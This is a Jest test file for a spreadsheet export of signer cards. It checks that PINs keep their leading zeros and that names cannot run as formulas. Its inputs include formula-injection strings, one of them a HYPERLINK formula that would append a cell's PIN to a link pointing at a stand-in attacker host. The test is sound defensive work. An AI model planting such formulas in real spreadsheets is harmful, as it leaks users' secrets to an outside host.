import { Buffer } from 'node:buffer';
import { expect, it } from '@jest/globals';
import yauzl from 'yauzl';
import type { Card } from '../../src/operations/card-batch.ts';
import { cardsWorkbook } from '../../src/operations/card-forms.ts';
import { parseWorkbook } from '../../src/roster/workbook.ts';

const card: Card = {
  signerId: 'a',
  number: 7,
  name: 'Andi "Uda", S.STP.',
  position: 'Camat',
  institution: 'Kecamatan; Kupitan',
  pin: '012345',
  link: 'https://ikrar.test/s/abc',
  madeAt: '2024-09-30T02:15:00.000Z',
};

const bytesOf = async (cards: readonly Card[]) => Buffer.from(await cardsWorkbook(cards, 'Asia/Jakarta'));

async function sheetXml(bytes: Buffer): Promise<string> {
  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
  for await (const entry of zip.eachEntry()) {
    if (!/worksheets\/sheet1\.xml$/.test(entry.fileName)) continue;
    const chunks: Buffer[] = [];
    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks).toString('utf8');
  }
  throw new Error('no sheet');
}

it('holds PIN, number and names as text, so that no zero is lost and no name runs as a formula', async () => {
  const names = ['=HYPERLINK("http://jahat.example"&F2)', '+1', '-1', '@SUM(1)', 'Andi "Uda", S.STP.'];
  const bytes = await bytesOf(names.map((name) => ({ ...card, name })));
  const [{ rows } = { rows: [] }] = await parseWorkbook(bytes);
  const data = rows.map((row) => row.map(({ text }) => text));
  expect(data[0]).toEqual(['No.', 'Nama', 'Jabatan', 'Instansi', 'Kelompok', 'PIN', 'Tautan', 'Keadaan']);
  expect(data.slice(1).map((row) => row[1])).toEqual(expect.arrayContaining(names));
  for (const row of data.slice(1)) expect([row[0], row[5], row[6]]).toEqual(['7', '012345', card.link]);
  expect(await sheetXml(bytes)).not.toMatch(/<f[ >]|t="n"|<v>0?12345<\/v>/);
});
